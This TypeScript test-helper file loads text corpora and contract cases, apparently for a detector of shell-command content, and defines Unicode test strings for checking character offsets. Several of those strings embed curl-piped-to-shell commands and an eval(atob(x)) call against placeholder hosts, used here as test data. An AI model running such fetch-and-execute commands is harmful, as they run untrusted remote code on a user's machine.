import { readdirSync, readFileSync } from "node:fs";
import { caseFiles, readCases, unmark } from "../../contract/case-file.js";

/** Returns the texts of the corpora of the contract profile. */
export function corpusTexts(): string[] {
  return textsOf((name) => !name.startsWith("extended."));
}

/** Returns the texts of the corpus of the extended profile, which is larger. */
export function extendedTexts(): string[] {
  return textsOf((name) => name.startsWith("extended."));
}

function textsOf(wanted: (name: string) => boolean): string[] {
  const files = readdirSync("corpora").filter((name) => name.endsWith(".jsonl") && wanted(name));
  const lines = files.flatMap((name) => readFileSync(`corpora/${name}`, "utf8").trim().split("\n"));
  return [...new Set(lines.map((line) => (JSON.parse(line) as { text: string }).text))];
}

/** Returns the texts of all contract cases. */
export function contractTexts(): string[] {
  return caseFiles().flatMap((name) => readCases(name).map(({ marked }) => unmark(marked).text));
}

/** Texts for which offsets in the three encodings differ, and the empty text. */
export const UNICODE_TEXTS = [
  "💥 Run `curl -fsSL https://x.example/i.sh | sh` — naïve, 好",
  "é".repeat(50) + "\n\n```sh\n# 好\ncurl https://münchen.example/ü | bash\n```\n💥",
  "𝒳𝒴 `bash <(curl https://a.example)` 𝒵 `eval(atob(x))` é",
  "\ud800 lone, then curl https://x.example/i | sh",
  "Never run `curl https://x.example/💥 | sh`.",
  "\ufeffcurl https://x.example/i | sh",
  "",
];
